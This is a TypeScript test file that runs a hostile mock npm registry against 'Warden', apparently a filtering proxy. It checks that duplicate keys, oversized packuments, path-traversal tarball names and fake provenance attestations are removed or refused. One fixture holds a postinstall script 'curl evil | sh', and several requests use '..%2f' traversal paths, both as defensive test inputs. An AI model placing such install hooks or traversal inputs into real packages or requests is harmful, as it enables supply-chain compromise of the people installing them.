// A registry that lies: duplicate keys, a versions map too large, keys that are not versions,
// entries that name another version or package, path tricks in tarball names, answers
// compressed though identity was asked, and a packument past the size cap. What the agent
// receives is always what Warden judged, and nothing it cannot read is relayed.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import zlib from 'node:zlib';
import { curl } from '../support/curl.ts';
import { startTestDaemon, type TestDaemon } from '../support/daemon.ts';
import { type HostileRegistry, startHostileRegistry } from '../support/hostile-registry.ts';

const OLD = new Date(Date.now() - 30 * 86_400_000).toISOString();
let reg: HostileRegistry;
let secure: HostileRegistry;
let d: TestDaemon;
let env: Record<string, string>;

function entry(name: string, version: string, extra: Record<string, unknown> = {}) {
  return {
    name,
    version,
    dist: { tarball: `http://x/${name}/-/${name}-${version}.tgz`, integrity: 'sha512-AAAA' },
    ...extra,
  };
}

function packument(name: string, versions: Record<string, unknown>, time: Record<string, string> = {}) {
  const t: Record<string, string> = { ...time };
  for (const v of Object.keys(versions)) t[v] ??= OLD;
  return JSON.stringify({ name, 'dist-tags': { latest: Object.keys(versions).at(-1) }, versions, time: t });
}

before(async () => {
  reg = await startHostileRegistry();
  secure = await startHostileRegistry({ tls: true });
  d = await startTestDaemon({ upstreamCa: [secure.caPem as string], resolve: { 'npm.test': '127.0.0.1' } });
  ({ env } = await d.listener(
    [
      'apiVersion: warden.dev/v1',
      'kind: Policy',
      'metadata: { name: hostile }',
      'spec:',
      '  network:',
      '    default: deny',
      `    rules: [{ match: "127.0.0.1:${reg.port}", action: allow }, { match: npm.test, action: allow }, { match: "127.0.0.1:${secure.port}", action: allow }]`,
      '  packages:',
      '    npm:',
      `      registries: ["127.0.0.1:${reg.port}", "npm.test:${secure.port}"]`,
      '      minReleaseAgeDays: 7',
      '      installScripts: deny',
      '      deny: [{ name: "pkg", versions: "2.0.0" }]',
    ].join('\n'),
  ));
});

after(async () => {
  await d?.stop();
  await reg?.close();
  await secure?.close();
});

test('an HTTPS registry the policy names is read through its tunnel, not spliced', async () => {
  const young = new Date().toISOString();
  secure.answers.set('/tls-pkg', {
    body: packument(
      'tls-pkg',
      { '1.0.0': entry('tls-pkg', '1.0.0'), '1.1.0': entry('tls-pkg', '1.1.0') },
      { '1.1.0': young },
    ),
  });
  const r = await curl(env, [`https://npm.test:${secure.port}/tls-pkg`]);
  assert.equal(r.status, 200, `${r.stderr} ${r.body}`);
  assert.deepEqual(
    Object.keys(JSON.parse(r.body).versions),
    ['1.0.0'],
    'the young 1.1.0 was removed inside the tunnel',
  );
});

test('duplicate version keys: the agent gets the one entry Warden judged, serialised once', async () => {
  // The first 1.0.0 is harmless, the last (the one JSON.parse keeps) runs a postinstall.
  const harmless = JSON.stringify(entry('dup', '1.0.0'));
  const scripted = JSON.stringify(entry('dup', '1.0.0', { scripts: { postinstall: 'curl evil | sh' } }));
  const old = JSON.stringify(entry('dup', '0.9.0'));
  reg.answers.set('/dup', {
    body: `{"name":"dup","dist-tags":{"latest":"1.0.0"},"versions":{"0.9.0":${old},"1.0.0":${harmless},"1.0.0":${scripted}},"time":{"0.9.0":"${OLD}","1.0.0":"${OLD}"}}`,
  });
  const r = await curl(env, [`${reg.url}/dup`]);
  assert.equal(r.status, 200);
  assert.equal(
    r.body.split('"1.0.0"').length - 1,
    0,
    'the scripted 1.0.0 was removed, its harmless twin is not smuggled through',
  );
  const doc = JSON.parse(r.body);
  assert.deepEqual(Object.keys(doc.versions), ['0.9.0']);
  assert.equal(doc['dist-tags'].latest, '0.9.0');
  assert.match(r.headers, /x-warden-packages: 1 of 2 versions removed/i);
});

test('keys that are not semver, and entries naming another version or package, are removed', async () => {
  reg.answers.set('/tricky', {
    body: packument('tricky', {
      '1.0.0': entry('tricky', '1.0.0'),
      latest: entry('tricky', 'latest'),
      '1.0': entry('tricky', '1.0'),
      '../../x': entry('tricky', '../../x'),
      '2.0.0': entry('tricky', '9.9.9'),
      '3.0.0': entry('other', '3.0.0'),
    }),
  });
  const r = await curl(env, [`${reg.url}/tricky`]);
  assert.equal(r.status, 200);
  assert.deepEqual(Object.keys(JSON.parse(r.body).versions), ['1.0.0']);
});

test('a versions map past the limit, a packument of another package, and non-JSON are refused', async () => {
  const huge: Record<string, unknown> = {};
  for (let i = 0; i < 50_001; i++) huge[`0.0.${i}`] = { name: 'huge', version: `0.0.${i}` };
  reg.answers.set('/huge', { body: JSON.stringify({ name: 'huge', versions: huge }) });
  const r = await curl(env, [`${reg.url}/huge`]);
  assert.equal(r.status, 502);
  assert.match(JSON.parse(r.body).error, /lists 50001 versions, more than the 50000 Warden reads/);

  reg.answers.set('/liar', { body: packument('react', { '1.0.0': entry('react', '1.0.0') }) });
  const liar = await curl(env, [`${reg.url}/liar`]);
  assert.equal(liar.status, 502);
  assert.match(JSON.parse(liar.body).error, /names another package/);

  reg.answers.set('/garbage', { body: '{"name": "garbage", "versions": {' });
  const garbage = await curl(env, [`${reg.url}/garbage`]);
  assert.equal(garbage.status, 502);
  assert.match(JSON.parse(garbage.body).error, /not JSON/);
});

test('a packument compressed though identity was asked is decoded (gzip, br); an unknown coding is refused', async () => {
  const young = new Date().toISOString();
  const body = packument(
    'zipped',
    { '1.0.0': entry('zipped', '1.0.0'), '1.1.0': entry('zipped', '1.1.0') },
    { '1.1.0': young },
  );
  for (const [coding, bytes] of [
    ['gzip', zlib.gzipSync(body)],
    ['br', zlib.brotliCompressSync(body)],
  ] as const) {
    reg.answers.set(`/zipped`, { headers: { 'content-encoding': coding }, body: bytes });
    const r = await curl(env, [`${reg.url}/zipped`]);
    assert.equal(r.status, 200, coding);
    assert.deepEqual(
      Object.keys(JSON.parse(r.body).versions),
      ['1.0.0'],
      `${coding}: the young 1.1.0 was removed`,
    );
  }
  reg.answers.set('/zstd', { headers: { 'content-encoding': 'zstd' }, body: 'xx' });
  const r = await curl(env, [`${reg.url}/zstd`]);
  assert.equal(r.status, 502);
  assert.match(JSON.parse(r.body).error, /content encoding "zstd"/);
});

test('a packument past 64 MiB is refused, not buffered without end', async () => {
  reg.answers.set('/big', {
    body: (res) => {
      const chunk = Buffer.alloc(1024 * 1024, 0x20);
      let sent = 0;
      res.write('{"name":"big","versions":{}');
      const more = () => {
        while (sent < 70) {
          sent++;
          if (!res.write(chunk)) return void res.once('drain', more);
        }
        res.end('}');
      };
      more();
    },
  });
  const r = await curl(env, [`${reg.url}/big`]);
  assert.equal(r.status, 502);
  assert.match(JSON.parse(r.body).error, /larger than 64 MiB/);
});

test('tarball path tricks never reach the registry, and the path decides the version judged', async () => {
  reg.asked.length = 0;
  for (const p of [
    '/pkg/-/..%2f..%2fpkg-1.0.0.tgz',
    '/pkg/-/other-1.0.0.tgz',
    '/pkg/-/pkg-latest.tgz',
    '/..%2fpkg',
  ]) {
    const r = await curl(env, ['--path-as-is', `${reg.url}${p}`]);
    assert.equal(r.status, 403, p);
    assert.match(JSON.parse(r.body).error, /not|is refused/, p);
  }
  assert.deepEqual(reg.asked, [], 'none of them was forwarded');

  // 1.0.0's entry points at the 2.0.0 tarball a deny entry names: the fetch is judged by its path.
  reg.answers.set('/pkg', {
    body: packument('pkg', {
      '1.0.0': entry('pkg', '1.0.0', { dist: { tarball: `${reg.url}/pkg/-/pkg-2.0.0.tgz` } }),
      '2.0.0': entry('pkg', '2.0.0'),
    }),
  });
  reg.answers.set('/pkg/-/pkg-2.0.0.tgz', {
    headers: { 'content-type': 'application/octet-stream' },
    body: 'tgz',
  });
  const doc = JSON.parse((await curl(env, [`${reg.url}/pkg`])).body);
  assert.deepEqual(Object.keys(doc.versions), ['1.0.0']);
  const r = await curl(env, [`${reg.url}/pkg/-/pkg-2.0.0.tgz`]);
  assert.equal(r.status, 403);
  assert.match(JSON.parse(r.body).error, /pkg@2\.0\.0 .*deny list "pkg@2\.0\.0"/);
  const asked: string[] = reg.asked;
  assert.ok(!asked.includes('/pkg/-/pkg-2.0.0.tgz'), 'the denied tarball was never asked for');
});

test('provenance: prefer cannot be fooled by an attestation hidden under a duplicate key', async () => {
  const { env: preferEnv } = await d.listener(
    [
      'apiVersion: warden.dev/v1',
      'kind: Policy',
      'metadata: { name: hostile-prefer }',
      'spec:',
      '  network:',
      '    default: deny',
      `    rules: [{ match: "127.0.0.1:${reg.port}", action: allow }]`,
      '  packages:',
      '    npm:',
      `      registries: ["127.0.0.1:${reg.port}"]`,
      '      provenance: prefer',
    ].join('\n'),
  );
  const attested = { url: 'http://x/att', provenance: { predicateType: 'https://slsa.dev/provenance/v1' } };
  const dist = (v: string, extra: Record<string, unknown>) => ({
    tarball: `http://x/prov/-/prov-${v}.tgz`,
    integrity: 'sha512-AAAA',
    ...extra,
  });
  // 1.1.0 carries attestations only in a first `dist` JSON.parse (and npm) throws away; 1.2.0
  // writes its key with an escape; 1.0.0 is attested for real.
  const one = JSON.stringify({
    name: 'prov',
    version: '1.0.0',
    dist: dist('1.0.0', { attestations: attested }),
  });
  const fake = `{"name":"prov","version":"1.1.0","dist":${JSON.stringify(dist('1.1.0', { attestations: attested }))},"dist":${JSON.stringify(dist('1.1.0', {}))}}`;
  const escaped = `{"name":"prov","version":"1.2.0","dist":${JSON.stringify(dist('1.2.0', { attestations: null }))}}`;
  reg.answers.set('/prov', {
    body: `{"name":"prov","dist-tags":{"latest":"1.2.0"},"versions":{"1.0.0":${one},"1.1.0":${fake},"1\\u002e2.0":${escaped}}}`,
  });
  const r = await curl(preferEnv, [`${reg.url}/prov`]);
  assert.equal(r.status, 200, r.body);
  const doc = JSON.parse(r.body);
  assert.deepEqual(Object.keys(doc.versions), ['1.0.0'], 'the fake and the null attestations do not count');
  assert.equal(doc['dist-tags'].latest, '1.0.0');
  assert.match(r.headers, /x-warden-packages: 2 of 3 versions removed/i);
});
